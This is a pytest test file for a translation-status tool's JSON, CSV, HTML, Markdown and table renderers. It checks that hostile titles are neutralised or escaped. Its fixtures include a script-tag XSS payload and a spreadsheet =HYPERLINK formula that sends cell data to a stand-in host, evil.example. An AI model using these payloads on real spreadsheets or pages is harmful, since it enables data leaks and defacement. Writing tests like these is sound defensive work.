"""Renderers: JSON schema, CSV formulas neutralised, HTML and Markdown escaping, colour only on request."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest
from lxml import html as lxml_html

from status_workspace import EGYPT, IRAQ_TRAINING, TRANSLATIONS, fill

from presslate.report.options import GROUPINGS, RenderOptions
from presslate.report.renderers import RENDERERS, render_status
from presslate.report.service import build_status

SCHEMA_PATH = Path(__file__).resolve().parents[2] / "docs" / "status-json-schema.json"
SCHEMA = json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))
SCRIPT = "<script>document.title='PWNED';document.body.innerHTML='PWNED'</script>"
FORMULA_TITLE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


@pytest.fixture
def report_data(translated_workspace, qa_errors):
    """The French Iraq training release complete too, with one QA error; the Egypt one complete and clean."""
    fill(translated_workspace, "fr", IRAQ_TRAINING, translated=TRANSLATIONS["translated"]["fr"][IRAQ_TRAINING],
         complete=True)
    qa_errors({("fr", IRAQ_TRAINING): 1})
    return build_status(translated_workspace, use_cache=False, with_history=False).to_dict()


@pytest.fixture
def hostile_data(translated_workspace, qa_errors):
    """A report whose translated titles hold markup, a spreadsheet formula and a Markdown table breaker."""
    qa_errors()
    fill(translated_workspace, "ko", EGYPT, translated={
        "IOM and Egypt Hold Regional Partners Briefing on IMRF Outcomes": SCRIPT})
    fill(translated_workspace, "es", IRAQ_TRAINING, translated={
        "IOM Trains Iraq Government Authorities in Migration Crisis Management": FORMULA_TITLE})
    data = build_status(translated_workspace, use_cache=False, with_history=False).to_dict()
    data["workspace"] = "-1+1 | <b>office</b> [bold]x[/bold]"
    return data


def test_every_format_the_command_offers_has_a_renderer():
    from presslate.report.options import FORMATS

    assert tuple(RENDERERS) == FORMATS


def test_json_follows_the_documented_schema(report_data):
    text = render_status(report_data, format_name="json", options=RenderOptions())
    data = json.loads(text)
    jsonschema.validate(data, SCHEMA, format_checker=jsonschema.FormatChecker())
    assert set(data["languages"]) == {"ko", "fr", "es", "ar"}
    release = next(r for r in data["releases"] if (r["id"], r["lang"]) == (EGYPT, "fr"))
    assert release["ready"] and release["untranslated"] == 0 and release["words"]["translated"] > 300
    assert release["translated_percent"] == 100.0


def test_json_schema_rejects_a_report_missing_counts(report_data):
    broken = json.loads(json.dumps(report_data))
    del broken["releases"][0]["draft"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(broken, SCHEMA)


@pytest.mark.parametrize("grouping", GROUPINGS)
def test_csv_neutralises_formulas_in_every_grouping(hostile_data, grouping):
    text = render_status(hostile_data, format_name="csv", options=RenderOptions(by=grouping))
    rows = list(csv.reader(io.StringIO(text)))
    assert len({len(row) for row in rows}) == 1, "every row has the header's columns"
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_csv_release_rows_say_what_blocks_each_release(report_data):
    rows = list(csv.DictReader(io.StringIO(render_status(report_data, format_name="csv",
                                                         options=RenderOptions(by="release")))))
    assert len(rows) == 36
    by_key = {(row["release"], row["language"]): row for row in rows}
    assert by_key[(EGYPT, "fr")]["ready"] == "yes" and by_key[(EGYPT, "fr")]["blocked_by"] == ""
    assert by_key[(IRAQ_TRAINING, "fr")]["blocked_by"] == "1 QA error"
    assert by_key[(IRAQ_TRAINING, "ko")]["blocked_by"] == "11 untranslated, 2 drafts"


def test_csv_neutralises_a_formula_in_a_title():
    from presslate.report.render_csv import neutralise

    assert neutralise(FORMULA_TITLE) == "'" + FORMULA_TITLE
    assert neutralise("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert neutralise("-2+3") == "'-2+3" and neutralise("+1") == "'+1" and neutralise("\t=1") == "'\t=1"
    assert neutralise(42) == 42 and neutralise("IOM") == "IOM" and neutralise(None) == ""


def test_html_shows_script_in_a_msgstr_as_text(hostile_data):
    page = render_status(hostile_data, format_name="html", options=RenderOptions())
    assert "<script" not in page
    tree = lxml_html.fromstring(page)
    assert tree.xpath("//script") == []
    shown = [cell.text_content() for cell in tree.xpath("//td//span[@class='tt']")]
    assert SCRIPT in shown
    assert tree.findtext(".//title").startswith("Translation status: -1+1 | <b>office</b>")


def test_html_is_self_contained(report_data):
    page = render_status(report_data, format_name="html", options=RenderOptions())
    tree = lxml_html.fromstring(page)
    assert tree.xpath("//script | //link | //img | //iframe | //object | //embed") == []
    assert not [el for el in tree.iter() if isinstance(el.tag, str) and (el.get("src") or el.get("href"))]
    assert "http://" not in page and "https://" not in page and "url(" not in page
    assert tree.xpath("//meta[@name='viewport']") and tree.xpath("//style")
    policy = tree.xpath("//meta[@http-equiv='Content-Security-Policy']")[0].get("content")
    assert policy.startswith("default-src 'none'")


def test_html_has_progress_bars_release_table_and_language_names(report_data):
    tree = lxml_html.fromstring(render_status(report_data, format_name="html", options=RenderOptions()))
    bars = tree.xpath("//svg[@class='bar']")
    assert len(bars) == 4
    assert "French: " in bars[1].get("aria-label")
    cards = " ".join(card.text_content() for card in tree.xpath("//article"))
    for name in ("Korean", "한국어", "French", "Spanish", "Arabic", "العربية"):
        assert name in cards
    rows = tree.xpath("//table[@class='releases']/tbody/tr")
    assert len(rows) == 9
    egypt = next(row for row in rows if EGYPT in row.text_content())
    assert "ready" in egypt.xpath("td[@data-label='fr']")[0].text_content()


def test_markdown_escapes_markup_and_table_breakers(hostile_data):
    text = render_status(hostile_data, format_name="markdown", options=RenderOptions(by="release"))
    assert "<script>" not in text and "<b>" not in text
    assert "-1+1 \\| \\<b\\>office\\</b\\>" in text
    header = next(line for line in text.splitlines() if line.startswith("| Release"))
    columns = header.count("|")
    for line in text.splitlines():
        if line.startswith("| ") and "---" not in line:
            assert line.count("|") - line.count("\\|") == columns, line


def test_markdown_summary_lists_languages_and_what_blocks_releases(report_data):
    text = render_status(report_data, format_name="markdown", options=RenderOptions())
    assert "| French (fr) |" in text and "| Korean (ko) |" in text
    assert "### Not ready" in text and "2 drafts" in text and "1 QA error" in text


def test_table_has_no_colour_codes_unless_asked(hostile_data):
    plain = render_status(hostile_data, format_name="table", options=RenderOptions(width=140))
    assert "\x1b[" not in plain
    assert "[bold]x[/bold]" in plain, "rich markup in data stays text"
    coloured = render_status(hostile_data, format_name="table", options=RenderOptions(color=True, width=140))
    assert "\x1b[" in coloured


@pytest.mark.parametrize("format_name", sorted(RENDERERS))
@pytest.mark.parametrize("grouping", GROUPINGS)
def test_every_format_renders_every_grouping(report_data, format_name, grouping):
    text = render_status(report_data, format_name=format_name, options=RenderOptions(by=grouping))
    assert text.endswith("\n") and len(text.splitlines()) > 3
    assert "fr" in text and ("Claire Martin" in text or grouping != "translator")
